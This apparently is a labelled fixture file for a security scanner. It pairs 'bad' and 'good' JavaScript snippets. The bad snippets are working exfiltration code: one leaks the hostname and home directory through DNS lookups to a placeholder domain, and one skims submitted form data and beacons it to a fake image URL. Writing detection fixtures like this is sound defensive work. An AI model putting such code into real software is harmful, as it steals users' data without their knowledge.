//: bad dns-tunnel
const dns = require('node:dns');
const os = require('node:os');

const hex = Buffer.from(`${os.hostname()}:${os.homedir()}`).toString('hex');
hex.match(/.{1,60}/g).forEach((part, index) => {
  dns.lookup(`${part}.${index}.oob.example.invalid`, () => {}); //!
});

//: good dns-tunnel
const dns = require('node:dns');

module.exports = (names) =>
  Promise.all(
    names.map((name) => dns.promises.lookup(`${name}.example.invalid`).then((found) => found.address)),
  );

//: bad form-skimmer
document.querySelectorAll('form').forEach((form) => {
  form.addEventListener('submit', () => {
    const data = btoa(JSON.stringify(Object.fromEntries(new FormData(form))));
    navigator.sendBeacon('https://static.example.invalid/g.gif', data); //!
  });
});

//: good form-skimmer
document.querySelectorAll('form').forEach((form) => {
  form.addEventListener('submit', (event) => {
    if (!form.checkValidity()) event.preventDefault();
    form.classList.add('submitted');
  });
});
